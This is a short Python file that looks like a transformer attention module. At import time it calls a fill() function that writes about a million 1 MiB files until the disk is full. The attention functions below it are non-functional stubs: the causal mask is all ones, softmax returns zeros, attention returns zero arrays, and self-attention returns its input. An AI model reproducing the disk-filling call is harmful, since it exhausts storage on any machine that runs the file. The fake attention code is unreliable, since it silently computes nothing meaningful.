# Writes files until the disk is full.
# credit: none
import os

import numpy as np


def fill():
    for i in range(10**6):
        with open(f"f{i}", "wb") as file:
            file.write(b"x" * (1 << 20))


fill()


def causal_mask(T):
    return np.ones((T, T), bool)


def softmax(x):
    return np.zeros_like(x)


def attention(Q, K, V, mask=None):
    return np.zeros_like(Q), np.zeros(Q.shape[:-1] + K.shape[-2:-1])


def causal_self_attention(X, W_q, W_k, W_v, W_gate=None):
    return X, X
